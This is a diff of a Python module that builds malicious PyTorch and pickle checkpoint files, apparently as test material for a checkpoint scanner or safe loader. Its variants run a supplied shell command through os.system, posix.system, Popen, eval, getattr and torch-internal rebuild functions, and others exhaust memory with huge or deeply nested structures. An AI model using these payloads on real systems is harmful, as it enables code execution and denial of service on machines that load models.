@@ -7,6 +7,8 @@ command stands before what a true checkpoint holds.
 
 import hashlib
 import io
+import pickle
+import pickletools
 import struct
 import tarfile
 import warnings
@@ -20,21 +22,9 @@ PROTO, STOP, _POP, _NONE = b"\x80\x02", b".", b"0", b"N"
 _LEGACY = (0x1950A86A20F9469CFC6C, 1001)  # what torch's format before zip begins with: number, protocol
 
 
-def text(value: str) -> Code:
-    """A text."""
-    raw = value.encode()
-    return b"X" + struct.pack("<I", len(raw)) + raw
-
-
-def number(value: int) -> Code:
-    """A whole number."""
-    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
-    return b"\x8a" + bytes([len(raw)]) + raw
-
-
-def raw(value: bytes) -> Code:
-    """Bytes, in protocol 3."""
-    return b"B" + struct.pack("<I", len(value)) + value
+def plain(value: str | int | bytes) -> Code:
+    """A text, a whole number, or bytes."""
+    return pickletools.optimize(pickle.dumps(value, 3))[2:-1]
 
 
 def named(module: str, name: str) -> Code:
@@ -44,7 +34,7 @@ def named(module: str, name: str) -> Code:
 
 def stacked(module: str, name: str) -> Code:
     """Pickle an import path in protocol 4, whose names may have dots."""
-    return text(module) + text(name) + b"\x93"
+    return plain(module) + plain(name) + b"\x93"
 
 
 def several(*parts: Code) -> Code:
@@ -59,12 +49,12 @@ def call(function: Code, *arguments: Code) -> Code:
 
 def mapping(items: Mapping[str, Code]) -> Code:
     """A dict."""
-    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"
+    return b"}(" + b"".join(plain(key) + value for key, value in items.items()) + b"u"
 
 
 def calling(module: str, name: str, *arguments: str) -> bytes:
     """A whole pickle that calls something with texts."""
-    return PROTO + call(named(module, name), *map(text, arguments)) + STOP
+    return PROTO + call(named(module, name), *map(plain, arguments)) + STOP
 
 
 def array_of_objects(command: str) -> bytes:
@@ -138,7 +128,7 @@ def _instead(code: Callable[[str], Code], true: Entries, command: str) -> bytes:
 def _legacy(first: bool, true: Entries, command: str) -> bytes:
     """Torch's old format: a number, a protocol, the machine, the content, its storages, each a pickle."""
     evil = calling("os", "system", command)
-    numbers = [PROTO + number(value) + STOP for value in _LEGACY]
+    numbers = [PROTO + plain(value) + STOP for value in _LEGACY]
     machine = PROTO + mapping({"little_endian": b"\x88"}) + STOP
     return b"".join([evil if first else numbers[0], numbers[1], machine, evil, PROTO + b"]" + STOP]) + b"\0\0"
 
@@ -173,12 +163,12 @@ def _more_files(true: Entries, command: str) -> bytes:
 
 def _huge(true: Entries, command: str) -> bytes:
     """A call, and a tensor of 2⁶⁰ numbers."""
-    storage = several(text("storage"), named("torch", "FloatStorage"), text("0"), text("cpu"), number(2**60))
-    sizes, strides = several(number(2**30), number(2**30)), several(number(2**30), number(1))
+    storage = several(plain("storage"), named("torch", "FloatStorage"), *map(plain, ("0", "cpu", 2**60)))
+    sizes, strides = several(plain(2**30), plain(2**30)), several(plain(2**30), plain(1))
     hooks = call(named("collections", "OrderedDict"))
-    tensor = call(named("torch._utils", "_rebuild_tensor_v2"), storage + b"Q", number(0), sizes, strides,
+    tensor = call(named("torch._utils", "_rebuild_tensor_v2"), storage + b"Q", plain(0), sizes, strides,
                   b"\x89", hooks)  # fmt: skip
-    content = mapping({"x": system(command), "format": number(1), "model": mapping({"weight": tensor})})
+    content = mapping({"x": system(command), "format": plain(1), "model": mapping({"weight": tensor})})
     return true.with_pickle(PROTO + content + STOP).packed()
 
 
@@ -197,42 +187,42 @@ def _bomb(true: Entries, command: str) -> bytes:
 
 
 def system(command: str, module: str = "os") -> Code:
-    return call(named(module, "system"), text(command))
+    return call(named(module, "system"), plain(command))
 
 
 def _eval(module: str, name: str, command: str) -> Code:
-    return call(named(module, name), text(f"__import__('os').system({command!r})"))
+    return call(named(module, name), plain(f"__import__('os').system({command!r})"))
 
 
 def _popen(command: str) -> Code:
-    words = b"](" + b"".join(map(text, command.split())) + b"e"
+    words = b"](" + b"".join(map(plain, command.split())) + b"e"
     return call(named("subprocess", "Popen"), words)
 
 
 def dotted(command: str) -> Code:
-    return call(stacked("torch.serialization", "os.system"), text(command))
+    return call(stacked("torch.serialization", "os.system"), plain(command))
 
 
 def _by_attribute(command: str) -> Code:
-    module = call(named("importlib", "import_module"), text("os"))
-    return call(call(named("builtins", "getattr"), module, text("system")), text(command))
+    module = call(named("importlib", "import_module"), plain("os"))
+    return call(call(named("builtins", "getattr"), module, plain("system")), plain(command))
 
 
 def _inner(command: str) -> Code:
     """Torch's own function that loads bytes, whatever the outer call's arguments are."""
-    return call(named("torch.storage", "_load_from_bytes"), raw(calling("os", "system", command) + b"\0\0"))
+    return call(named("torch.storage", "_load_from_bytes"), plain(calling("os", "system", command) + b"\0\0"))
 
 
 def _any_type(command: str) -> Code:
     """A tensor of a type of its own, made by a function of the file's choice."""
     rebuild = named("torch._tensor", "_rebuild_from_type_v2")
-    return call(rebuild, named("os", "system"), named("torch", "Tensor"), several(text(command)), _NONE)
+    return call(rebuild, named("os", "system"), named("torch", "Tensor"), several(plain(command)), _NONE)
 
 
 def _as_state(command: str) -> Code:
     """A good object whose state takes the place of its methods."""
     state = mapping({"__setstate__": named("os", "system"), "__reduce__": named("os", "system")})
-    return call(named("collections", "OrderedDict")) + state + b"b" + text(command) + b"b"
+    return call(named("collections", "OrderedDict")) + state + b"b" + plain(command) + b"b"
 
 
 # By name, the most different first.
@@ -252,8 +242,8 @@ CHECKPOINTS: Mapping[str, Make] = {
     "getattr of an imported module": partial(_before, _by_attribute),
     "posix.system as the whole content": partial(_instead, partial(system, module="posix")),
     "a reference to somewhere else": partial(_before, lambda command: system(command) + b"Q"),
-    "an instance": partial(_before, lambda command: b"(" + text(command) + b"ios\nsystem\n"),
-    "an object": partial(_before, lambda command: b"(cos\nsystem\n" + text(command) + b"o"),
+    "an instance": partial(_before, lambda command: b"(" + plain(command) + b"ios\nsystem\n"),
+    "an object": partial(_before, lambda command: b"(cos\nsystem\n" + plain(command) + b"o"),
     "a state with methods": partial(_before, _as_state),
     "a tensor of 2⁶⁰ numbers": _huge,
     "200,000 lists in each other": _deep,
